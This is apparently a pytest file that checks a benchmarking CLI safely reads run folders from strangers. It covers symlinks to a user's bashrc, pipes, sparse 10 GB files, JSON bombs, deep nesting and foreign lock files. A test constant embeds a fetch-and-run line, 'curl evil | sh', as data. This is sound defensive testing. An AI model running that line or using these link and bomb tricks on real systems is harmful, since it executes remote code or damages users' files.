"""Run folders from strangers: nothing in them is followed, waited for or written unasked, whatever verb reads them."""

from __future__ import annotations

import itertools
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from clawgauge.errors import RunLocked
from clawgauge.journal.folder import RunFolder
from support.command import Outcome, clawgauge, read_records
from support.scripted_server import ScriptedServer, Text
from support.slow_rest import slow_rest
from support.waiting import PATIENCE_S
from support.written_runs import LABEL, config, inventory, prompt, record, write_run

from .peak_memory import clawgauge_measured
from .processes import ended, started, wait_until
from .test_signals import SLOW

RUN = ("run", "-t", "fake:scripted-model", "-s", "small.json")
READING = (
    ("show", "r"),
    ("show", "r", "P0"),
    ("report", "r", "-o", "page.html"),
    ("compare", "r", "good"),
    ("history",),
    ("export", "r"),
    ("route", "r", "--reasons", "why.md"),
)
WRITING = (("summarize", "r"), ("rescore", "r"), ("report", "r"), ("route", "r"))
TORN = b'{"record_type": "result", "curl evil | sh'
pytestmark = pytest.mark.skipif(
    sys.platform == "win32", reason="needs links, pipes and descriptors of folders"
)


@pytest.fixture(autouse=True)
def every_run_meets_the_schema() -> None:
    """Not here: these folders are a stranger's."""


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A file of the user's outside of every run folder."""
    path = tmp_path / "bashrc"
    path.write_text("export PATH\n")
    return path


@pytest.fixture
def runs(tmp_path: Path) -> Path:
    """`runs/r` from a stranger and `runs/good` of one's own, each with two answers and a plan."""
    for name in ("r", "good"):
        prompts = [prompt("P0"), prompt("P1")]
        write_run(
            tmp_path / "runs" / name,
            [record("P0"), record("P1")],
            config=config(prompts),
            inventory=inventory(),
        )
    return tmp_path / "runs"


def tree(folder: Path) -> dict[str, tuple[int, int, bytes | str]]:
    """Everything in a folder: names, kinds, times, contents."""
    return {
        path.name: (
            path.lstat().st_mode,
            path.lstat().st_mtime_ns,
            str(path.readlink())
            if path.is_symlink()
            else path.read_bytes()
            if path.is_file()
            else "",
        )
        for path in folder.iterdir()
    }


def is_one_sentence(done: Outcome) -> bool:
    return "Traceback" not in done.stderr and done.stderr.count("clawgauge: ") == 1


def make_socket(path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as listener:
        # The address of a socket is short; a name relative to its own folder always is.
        here = Path.cwd()
        os.chdir(path.parent)
        try:
            listener.bind(path.name)
        finally:
            os.chdir(here)


KINDS: dict[str, Callable[[Path], None]] = {
    "a pipe": os.mkfifo,
    "a link to a device": lambda path: path.symlink_to("/dev/zero"),
    "a link to itself": lambda path: path.symlink_to(path.name),
    "a folder": lambda path: path.mkdir(),
    "a socket": make_socket,
}


LINKED = (".lock", "results.torn", "events.jsonl", "results.jsonl", "summary.md", "config.json")
RESUME = ("run", "--resume", "r", "--retry-errors")


@pytest.mark.parametrize(
    "case", slow_rest(itertools.product((*WRITING, RESUME), LINKED), every=5), ids=str
)
def test_no_verb_writes_through_a_link(
    runs: Path, victim: Path, case: tuple[tuple[str, ...], str]
) -> None:
    """Whichever file of a folder is a link to the user's own, symbolic or hard, its bytes stay as they were."""
    verb, name = case
    before = victim.read_bytes()
    with (runs / "r" / "results.jsonl").open("ab") as file:
        file.write(TORN)
    for link in (os.symlink, os.link):
        (runs / "r" / name).unlink(missing_ok=True)
        link(victim, runs / "r" / name)
        done = clawgauge(runs.parent, *verb)
        assert victim.read_bytes() == before and "Traceback" not in done.stderr
        assert done.code in (0, 2, 5)


@pytest.mark.parametrize("name", ["report.html", "routing_openclaw.md", "summary.json"])
def test_a_link_where_a_verb_writes_is_refused_by_name(runs: Path, victim: Path, name: str) -> None:
    """What would be replaced is said, and neither the link nor what it points to is touched."""
    verb = {"report.html": "report", "routing_openclaw.md": "route", "summary.json": "summarize"}[
        name
    ]
    (runs / "r" / name).unlink(missing_ok=True)
    (runs / "r" / name).symlink_to(victim)
    victim.chmod(0o644)
    (runs / "r").chmod(
        0o700
    )  # what is made of a private folder is private: not what a link in it leads to
    done = clawgauge(runs.parent, verb, "r")
    assert f"{name} is a symbolic link" in done.stderr and done.code == (
        0 if verb == "route" else 2
    )
    assert victim.read_text() == "export PATH\n" and (runs / "r" / name).is_symlink()
    assert victim.stat().st_mode & 0o777 == 0o644
    assert not list((runs / "r").glob(".*"))


@pytest.mark.parametrize("words", READING, ids=" ".join)
def test_reading_writes_nothing_into_the_folder(runs: Path, words: tuple[str, ...]) -> None:
    """No lock, no repair of a torn line, no new file: the folder is as it was, to the last time stamp."""
    with (runs / "r" / "results.jsonl").open("ab") as file:
        file.write(TORN)
    before = tree(runs / "r")
    done = clawgauge(runs.parent, *words)
    assert done.code == 0, done.stderr
    assert tree(runs / "r") == before


def test_a_report_is_the_only_thing_a_report_writes(runs: Path) -> None:
    """Not even a torn line is moved, and a run that is being written can be reported."""
    with (runs / "r" / "results.jsonl").open("ab") as file:
        file.write(TORN)
    before = tree(runs / "r")
    with RunFolder.open_existing(runs / "good"):
        assert clawgauge(runs.parent, "report", "good").code == 0
    assert clawgauge(runs.parent, "report", "r").code == 0
    after = tree(runs / "r")
    assert after.pop("report.html") and after == before


CASES = slow_rest(itertools.product(("config.json", "results.jsonl"), KINDS), every=3)


@pytest.mark.parametrize("case", CASES, ids=str)
def test_what_is_no_file_is_named_by_every_verb_and_hangs_none(
    runs: Path, case: tuple[str, str]
) -> None:
    """One sentence and exit 2; `history` lists the others and gives this folder a line; `latest` is another run.

    Rows can be exported without a plan: there a spoilt config.json is in nobody's way.
    """
    name, kind = case
    (runs / "r" / name).unlink()
    KINDS[kind](runs / "r" / name)
    for words in (*READING, *WRITING, ("run", "--resume", "r")):
        done = clawgauge(runs.parent, *words)
        if words == ("history",):
            assert done.code == 5 and "good" in done.stdout
            assert [line for line in done.stdout.splitlines() if f"{name} is a" in line]
        elif words == ("export", "r") and name == "config.json":
            assert done.code == 0
        elif words != ("run", "--resume", "r"):
            assert done.code == 2 and is_one_sentence(done) and f"{name} is a" in done.stderr, (
                words,
                done.stderr,
            )
    os.utime(runs / "r", (4e9, 4e9))
    assert clawgauge(runs.parent, "show", "latest").code == 0


@pytest.mark.parametrize(
    "name",
    slow_rest(
        ["config.json", "inventory.json", "summary.json", "events.jsonl", "results.jsonl"], every=4
    ),
)
def test_ten_gigabytes_of_nothing_are_no_memory_and_no_wait(runs: Path, name: str) -> None:
    """A sparse file is refused by its size, or skipped where lines are streamed; nobody runs out of memory."""
    path = runs / "r" / name
    path.touch()
    os.truncate(path, 10 << 30)
    for words in (
        ("show", "r"),
        ("summarize", "r"),
        ("history",),
        ("route", "r", "--reasons", "why.md"),
    ):
        done = clawgauge(runs.parent, *words)
        assert "Traceback" not in done.stderr and "MemoryError" not in done.stderr
        assert done.code in (0, 2, 5), done.stderr
    assert (
        shutil.disk_usage(runs).free
        and sum(file.stat().st_blocks for file in (runs / "r").iterdir()) < 10_000
    )


def _swell(document: dict[str, Any], unit: bytes, mib: int) -> bytes:
    """A document in which the text `@` has become a list of so many of these."""
    n_units = (mib << 20) // len(unit)
    return (
        json.dumps(document)
        .encode()
        .replace(b'"@"', b"[" + unit * n_units + unit.rstrip(b",") + b"]")
    )


def _swollen_folder(folder: Path, kind: str) -> None:
    plan = config([prompt("P0")])
    if kind == "unknown key":
        (folder / "config.json").write_bytes(_swell(plan | {"extra": "@"}, b"[],", 90))
    elif kind == "tools":
        plan["prompts"][0]["tool_choice"] = "@"
        (folder / "config.json").write_bytes(_swell(plan, b"{},", 15))
    elif kind == "prompts":
        empty = b'{"id":"","name":"","prompt":"","validator":{}},'
        (folder / "config.json").write_bytes(_swell(plan | {"prompts": "@"}, empty, 90))
    elif kind == "events":
        (folder / "events.jsonl").write_bytes(b'{"event":"x","at_ms":1}\n' * 4_000_000)
    else:
        line = _swell(record("P0") | {"parsed_output": {"x": "@"}}, b"[],", 15)
        with (folder / "results.jsonl").open("ab") as file:
            file.write(line + b"\n")


@pytest.mark.parametrize(
    "kind",
    [
        "tools",
        "a row",
        *(
            pytest.param(kind, marks=pytest.mark.slow)
            for kind in ("unknown key", "prompts", "events")
        ),
    ],
)
def test_a_file_of_brackets_takes_no_more_memory_than_a_file_of_text(runs: Path, kind: str) -> None:
    """Two bytes are a list of seventy: a hundred kilobytes in a letter, and gigabytes here."""
    _swollen_folder(runs / "r", kind)
    for words in (("show", "r"), ("summarize", "r"), ("history",)):
        done, peak_mib = clawgauge_measured(runs.parent, *words)
        assert done.code in (2, 5) and "Traceback" not in done.stderr, (words, done.stderr)
        assert peak_mib < 700, words
    if kind in ("prompts", "tools", "unknown key"):
        shown = clawgauge(runs.parent, "show", "r")
        assert (
            is_one_sentence(shown)
            and "config.json holds more than 4,000,000 values" in shown.stderr
        )


def test_a_plan_nested_deeper_than_anyone_writes_is_refused_in_a_sentence(runs: Path) -> None:
    plan = config([prompt("P0")])
    plan["prompts"][0]["tool_choice"] = "@"
    deep = b"[" * 500 + b"]" * 500
    (runs / "r" / "config.json").write_bytes(json.dumps(plan).encode().replace(b'"@"', deep))
    for words in (("show", "r"), ("rescore", "r"), ("run", "--resume", "r")):
        done = clawgauge(runs.parent, *words)
        assert done.code == 2 and "nested more than 128 levels deep" in done.stderr, (
            words,
            done.stderr,
        )
        assert "Traceback" not in done.stderr


@pytest.mark.parametrize(
    "content", [b"garbage\x00\xff" * 100, b"", b"[" * 5000, b'{"pid": 10e400}', None]
)
def test_a_foreign_lock_file_locks_nothing_and_says_nothing(
    runs: Path, content: bytes | None
) -> None:
    """Whatever a lock file holds, even ten gigabytes of nothing, only a living writer keeps another one out."""
    lock = runs / "r" / ".lock"
    if content is None:
        lock.touch()
        os.truncate(lock, 10 << 30)
    else:
        lock.write_bytes(content)
    assert clawgauge(runs.parent, "summarize", "r").code == 0
    assert not lock.exists()


def test_a_folder_of_rubbish_does_not_end_the_history(runs: Path) -> None:
    """Deep, huge, circular and dangling things in the runs folder are lines of the table or nothing at all."""
    (runs / "deep").mkdir()
    (runs / "deep" / "config.json").write_bytes(b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}")
    (runs / "old").mkdir()
    (runs / "old" / "config.json").write_text(
        json.dumps(config([prompt("P0")]) | {"created_at_ms": 10**300})
    )
    (runs / "loop").symlink_to("loop")
    (runs / "gone").symlink_to(runs / "nowhere")
    (runs / "file").write_text("no folder")
    (runs / "new\nline").mkdir()
    (runs / "new\nline" / "results.jsonl").mkdir()
    for form in ("text", "markdown", "json"):
        done = clawgauge(runs.parent, "history", "--format", form)
        assert done.code == 5 and "Traceback" not in done.stderr
        assert "deep" in done.stdout and "good" in done.stdout
    for name in ("deep", "loop", "gone", "new\nline", "file"):
        done = clawgauge(runs.parent, "show", name)
        assert done.code == 2 and "Traceback" not in done.stderr, name


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("validator", {"type": "nope"}),
        ("validator", {"type": "exact", "value": None}),
        ("validator", {"type": "regex_fullmatch", "pattern": "("}),
        ("repeats", 10**12),
        ("concurrency", 10**30),
    ],
    ids=str,
)
def test_a_plan_that_nobody_could_have_made_is_refused(runs: Path, key: str, value: Any) -> None:
    """Validators and options of a stranger's config.json meet the rules of a suite file and of the command line."""
    options = {key: value} if key != "validator" else {}
    prompts = [prompt("P0", **({} if options else {key: value}))]
    write_run(runs / "r", [record("P0")], config=config(prompts, options=options))
    for words in (("run", "--resume", "r", "--dry-run"), *([] if options else [("rescore", "r")])):
        done = clawgauge(runs.parent, *words)
        assert done.code == 2 and is_one_sentence(done), done.stderr


def test_numbers_of_any_length_beside_the_results_spoil_nothing(runs: Path) -> None:
    """An event, a summary or an inventory with a number of 400 digits is left out or refused in a sentence."""
    huge = 10**400
    detail = {
        "energy_j": {"cpu": huge},
        "limit": huge,
        "budget": "max_calls",
        "peak_memory_bytes": huge,
    }
    events = [
        {"event": kind, "at_ms": 1, "target": LABEL, "detail": detail}
        for kind in ("target_finished", "budget_spent")
    ]
    (runs / "r" / "events.jsonl").write_text("".join(json.dumps(event) + "\n" for event in events))
    assert clawgauge(runs.parent, "summarize", "r").code == 0
    summary = json.loads((runs / "r" / "summary.json").read_text())
    summary["models"][0]["n_passed"] = huge
    (runs / "r" / "summary.json").write_text(json.dumps(summary))
    (runs / "r" / "inventory.json").write_text(json.dumps(inventory(collected_at_ms=huge)))
    for words in READING:
        done = clawgauge(runs.parent, *words)
        assert done.code in (0, 2) and "Traceback" not in done.stderr, words


def test_a_new_run_does_not_move_in_behind_a_link(runs: Path, tmp_path: Path) -> None:
    """A name in the runs folder that is a link, dangling or to an empty folder elsewhere, is a name that is taken."""
    (tmp_path / "elsewhere").mkdir()
    (runs / "a").symlink_to(tmp_path / "elsewhere")
    (runs / "b").symlink_to(tmp_path / "nowhere")
    for name in ("a", "b"):
        with pytest.raises(Exception, match="exists already"):
            RunFolder.create(runs, name)
    assert not list((tmp_path / "elsewhere").iterdir()) and not (tmp_path / "nowhere").exists()


def test_leftovers_of_others_are_left_alone(runs: Path, victim: Path) -> None:
    """Only what a killed writer of ours leaves is cleared away: regular files that bear such a name."""
    ours = runs / "r" / ".summary.json.4711-0.tmp"
    ours.write_text("{")
    (runs / "r" / ".notes.tmp").write_text("mine")
    (runs / "r" / ".summary.md.1-a.tmp").symlink_to(victim)
    assert clawgauge(runs.parent, "summarize", "r").code == 0
    assert (
        not ours.exists()
        and (runs / "r" / ".notes.tmp").exists()
        and (runs / "r" / ".summary.md.1-a.tmp").is_symlink()
    )


def test_an_output_file_never_takes_the_place_of_a_record(runs: Path, victim: Path) -> None:
    """-o into a run folder follows no link and spoils no record; elsewhere a link the user names is the user's word."""
    before = tree(runs / "r")
    for name in ("results.jsonl", "config.json", "events.jsonl"):
        done = clawgauge(runs.parent, "export", "r", "--format", "csv", "-o", f"runs/r/{name}")
        assert done.code == 2 and is_one_sentence(done)
    assert tree(runs / "r") == before
    (runs / "r" / "rows.csv").symlink_to(victim)
    assert clawgauge(runs.parent, "export", "r", "-o", "runs/r/rows.csv").code == 2
    assert victim.read_text() == "export PATH\n"
    (runs.parent / "rows.csv").symlink_to(victim)
    assert clawgauge(runs.parent, "export", "r", "-o", "rows.csv").code == 0
    assert victim.read_text() != "export PATH\n"


AS_NOBODY = """
import os, sys
import clawgauge.cli.show, clawgauge.cli.report, clawgauge.reports.terminal, encodings.idna
from clawgauge.cli import main
if os.getuid() == 0:
    os.setuid(65534)
sys.exit(main())
"""


def test_a_folder_that_may_only_be_read_is_read(runs: Path) -> None:
    """Without the right to write, reading works, and what has to write says one sentence that names the place."""
    place = Path(tempfile.mkdtemp())
    shutil.copytree(runs, place / "runs")
    for folder in (place / "runs" / "r", place / "runs", place):
        folder.chmod(0o555)
    try:
        for words, code in ((("show", "r"), 0), (("report", "r"), 2), (("summarize", "r"), 2)):
            child = [sys.executable, "-c", AS_NOBODY, *words]
            done = subprocess.run(
                child, cwd=place, capture_output=True, timeout=PATIENCE_S, text=True
            )
            assert done.returncode == code, done.stderr
            assert code == 0 or done.stderr.count("clawgauge: Cannot write") == 1
    finally:
        for folder in (place, place / "runs", place / "runs" / "r"):
            folder.chmod(0o755)
        shutil.rmtree(place)


# What happens to a folder while a run writes it.


def test_deleting_the_lock_file_lets_no_second_writer_in(
    place: Path, server: ScriptedServer
) -> None:
    """The lock is the folder's: without the file the second process is still refused, and still told who it is."""
    server.script(Text("yes"), SLOW)
    with started(place, *RUN, "--run-id", "held") as holder:
        wait_until(lambda: len(server.calls) == 2)
        (place / "runs" / "held" / ".lock").unlink()
        for words in (("run", "--resume", "held"), ("summarize", "held")):
            refused = clawgauge(place, *words)
            assert refused.code == 4 and "is being written by " in refused.stderr
            if Path("/proc/locks").exists():
                assert (
                    f"process {holder.pid}" in refused.stderr or "another process" in refused.stderr
                )
        assert not (place / "runs" / "held" / ".lock").exists()
        holder.send_signal(signal.SIGKILL)
        ended(holder)
    assert clawgauge(place, "summarize", "held").code == 0


def test_a_writer_that_knows_only_the_lock_file_is_respected(runs: Path) -> None:
    """Version 0.1.0 locks the file alone: it keeps us out, and we keep it out."""
    fcntl = pytest.importorskip("fcntl")
    with (runs / "r" / ".lock").open("w") as old:
        fcntl.flock(old, fcntl.LOCK_EX | fcntl.LOCK_NB)
        with pytest.raises(RunLocked):
            RunFolder.open_existing(runs / "r")
    with (
        RunFolder.open_existing(runs / "r"),
        (runs / "r" / ".lock").open("r") as old,
        pytest.raises(BlockingIOError),
    ):
        fcntl.flock(old, fcntl.LOCK_EX | fcntl.LOCK_NB)


LOSSES: dict[str, Callable[[Path], object]] = {
    "deleted": shutil.rmtree,
    "moved": lambda folder: folder.rename(folder.with_name("moved")),
    "replaced": lambda folder: (
        folder.rename(folder.with_name("moved")),
        shutil.copytree(folder.with_name("moved"), folder),
    ),
    "replaced by a link": lambda folder: (
        folder.rename(folder.with_name("moved")),
        folder.symlink_to("/tmp"),
    ),
    "its results deleted": lambda folder: (folder / "results.jsonl").unlink(),
    "its results replaced": lambda folder: (
        shutil.copy(folder / "results.jsonl", folder / "copy"),
        (folder / "copy").replace(folder / "results.jsonl"),
    ),
    "its results a link": lambda folder: (
        (folder / "results.jsonl").rename(folder / "other"),
        (folder / "results.jsonl").symlink_to("other"),
    ),
}


@pytest.mark.parametrize("loss", LOSSES)
def test_a_folder_lost_in_mid_run_ends_it_at_the_next_write(
    place: Path, server: ScriptedServer, loss: str
) -> None:
    """No more calls are paid for than the one under way: exit 4, one sentence, and no pass that nobody can read."""
    folder = place / "runs" / "lost"

    def lose(_request: object) -> Text:
        if len(server.calls) == 2:
            LOSSES[loss](folder)
        return Text("yes")

    server.reply_with(lose)
    done = clawgauge(place, *RUN, "--run-id", "lost", "--repeats", "6")
    assert done.code == 4 and len(server.calls) == 2, done.stderr
    assert "clawgauge: " in done.stderr and "Traceback" not in done.stderr
    assert done.stderr.strip().splitlines()[-1].endswith("until it ends.")


def test_tokens_no_server_can_have_counted_cost_no_row(place: Path, server: ScriptedServer) -> None:
    """A server that claims 2**53 - 1 tokens has its answers counted like any other's, by every reader."""
    server.reply_with(Text("yes", chunks=["y", "es"], usage=(2**53 - 1, 2**53 - 1)))
    done = clawgauge(place, *RUN, "--run-id", "r", "--repeats", "3")
    assert done.code == 0, done.stderr
    (group,) = done.summary()["models"]
    assert done.summary()["n_unreadable_lines"] == 0 and group["n_total"] == 12 == len(
        read_records(done.folder)
    )
    assert (
        group["n_passed"]
        == sum(row["objective_pass"] is True for row in read_records(done.folder))
        > 0
    )
    for words in (("show", "r"), ("export", "r"), ("report", "r", "-o", "p.html"), ("history",)):
        assert clawgauge(place, *words).code == 0
